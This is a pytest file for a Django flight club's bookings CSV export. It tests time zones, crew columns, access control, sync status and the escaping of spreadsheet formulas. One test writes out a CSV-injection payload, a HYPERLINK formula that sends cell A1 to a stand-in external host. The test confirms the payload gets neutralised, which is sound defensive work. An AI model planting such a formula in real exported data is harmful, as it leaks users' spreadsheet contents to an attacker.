"""The bookings list's CSV export: the same filter, every row, streamed, spreadsheet-safe."""

import csv
import io

import pytest
from django.http import StreamingHttpResponse
from django.urls import reverse

from dispatch.booking_search import safe_cell
from dispatch.models import BookingCrew
from dispatch.services.bookings import booking_cancel
from tests.conftest import at, client_for, make_member
from tests.dispatch.test_booking_list import bulk_bookings


def _csv(client, club, query):
    r = client.get(reverse("dispatch:booking_list_csv", args=[club.slug]), query)
    assert r.status_code == 200 and r["Content-Type"].startswith("text/csv")
    assert isinstance(r, StreamingHttpResponse)
    return list(csv.reader(io.StringIO(b"".join(r.streaming_content).decode("utf-8"))))


def test_the_csv_has_local_times_with_the_zone_crew_by_role_status_purpose_and_sync(
        dispatcher, club, book, aircraft, instructor, student):
    lesson = book(aircraft, at(12, 14), at(12, 15, 30), [(instructor, BookingCrew.Role.INSTRUCTOR),
                                                         (student, BookingCrew.Role.STUDENT)], purpose="training")
    booking_cancel(actor=dispatcher, booking=lesson, reason="Crosswind")
    header, row = _csv(client_for(dispatcher), club, {"from": "2030-06-01"})
    assert header == ["Start (Europe/Paris)", "End (Europe/Paris)", "UTC offset", "Aircraft", "Pilot in command",
                      "Instructor", "Student", "Passengers", "Status", "Purpose", "Wi-Flight sync", "Cancel reason"]
    record = dict(zip(header, row))
    assert record["Start (Europe/Paris)"] == "2030-06-12 14:00" and record["End (Europe/Paris)"] == "2030-06-12 15:30"
    assert record["UTC offset"] == "UTC+02:00"
    assert (record["Aircraft"], record["Instructor"], record["Student"], record["Pilot in command"]) == (
        "F-GABC", "Instructor", "Student", "")
    assert (record["Status"], record["Purpose"], record["Cancel reason"]) == ("Cancelled", "Training", "Crosswind")


def test_the_csv_holds_every_matching_row_not_one_page(dispatcher, club, aircraft, aircraft2, pilot):
    made = bulk_bookings(club, aircraft, pilot, 230)
    bulk_bookings(club, aircraft2, pilot, 5)
    rows = _csv(client_for(dispatcher), club, {"from": "2030-06-01", "aircraft": aircraft.pk})[1:]
    assert len(rows) == len(made) and {r[3] for r in rows} == {"F-GABC"}


def test_cells_a_spreadsheet_would_run_as_formulas_are_quoted(dispatcher, club, book, aircraft):
    evil = make_member(club, "evil", is_pilot=True)
    evil.user.full_name = '=HYPERLINK("http://x.example/?"&A1,"click")'
    evil.user.save()
    b = book(aircraft, at(10, 9), at(10, 10), [(evil, BookingCrew.Role.PIC)])
    booking_cancel(actor=dispatcher, booking=b, reason="@SUM(1+1)")
    header, row = _csv(client_for(dispatcher), club, {"from": "2030-06-01"})
    record = dict(zip(header, row))
    assert record["Pilot in command"] == "'" + evil.user.full_name
    assert record["Cancel reason"] == "'@SUM(1+1)"


@pytest.mark.parametrize("value, safe", [("=1+1", "'=1+1"), ("+33 6", "'+33 6"), ("-2", "'-2"), ("@x", "'@x"),
                                         ("\tx", "'\tx"), ("F-GABC", "F-GABC"), ("", "")])
def test_safe_cell(value, safe):
    assert safe_cell(value) == safe


def test_a_bad_filter_gets_the_form_with_the_error_not_a_file(dispatcher, club):
    r = client_for(dispatcher).get(reverse("dispatch:booking_list_csv", args=[club.slug]), {"from": "2030-13-01"})
    assert r.status_code == 400 and list(r.context["form"].errors) == ["from"]


def test_the_export_is_for_those_who_see_all_bookings(pilot, club, booking):
    assert client_for(pilot).get(reverse("dispatch:booking_list_csv", args=[club.slug])).status_code == 404


def test_the_export_only_holds_the_actors_club(dispatcher, club, outsider, other_aircraft, book, aircraft, pilot):
    from dispatch.models import Booking

    Booking.objects.create(organization=other_aircraft.organization, aircraft=other_aircraft, start=at(10, 9),
                           end=at(10, 10))
    book(aircraft, at(10, 9), at(10, 10), [(pilot, BookingCrew.Role.PIC)])
    rows = _csv(client_for(dispatcher), club, {"from": "2030-06-01"})[1:]
    assert [r[3] for r in rows] == ["F-GABC"]


def test_the_sync_state_is_said_in_words(dispatcher, club, aircraft, pilot):
    from django.utils import timezone

    from integrations.wiflight.models import ReservationSync

    synced, dead, none = bulk_bookings(club, aircraft, pilot, 3)
    for booking, state in ((synced, "synced"), (dead, "dead")):
        ReservationSync.objects.create(organization=club, name=f"{booking.uid}@tac.example.com", kind="booking",
                                       booking=booking, state=state, next_attempt_at=timezone.now(),
                                       last_error="HTTP 500" if state == "dead" else "")
    client = client_for(dispatcher)
    rows = _csv(client, club, {"from": "2030-06-01"})[1:]
    assert [r[10] for r in rows] == ["Synced", "Gave up", ""]
    page = client.get(reverse("dispatch:booking_list", args=[club.slug]), {"from": "2030-06-01"}).content.decode()
    assert "✓ Synced with Wi-Flight" in page and "✗ Wi-Flight sync gave up" in page
